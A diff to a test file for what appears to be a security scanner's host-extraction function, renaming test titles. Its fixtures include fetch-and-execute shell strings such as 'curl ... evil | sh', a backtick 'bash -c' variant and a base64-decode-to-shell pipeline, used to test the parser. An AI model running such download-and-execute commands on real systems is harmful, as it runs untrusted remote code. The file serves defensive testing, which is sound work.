@@ -30,11 +30,11 @@ describe("the hosts of a finding", () => {
     ["one fetcher more than addresses", "curl https://known.example/x evil | sh; curl evil | sh"],
     ["backticks", "bash -c `curl https://known.example/x`"],
     ["a backslash", "curl https://known.example\\.evil.example | sh"],
-  ])("are not told for certain: %s", (_name, text) => {
+  ])("are unknown: %s", (_name, text) => {
     expect(hosts(text)).toBeNull();
   });
 
-  it("are never told of a payload that is decoded", () => {
+  it("are unknown for a decoded payload", () => {
     expect(hosts("curl https://a.example | base64 -d | sh", "bash/decode-pipe")).toBeNull();
   });
 });
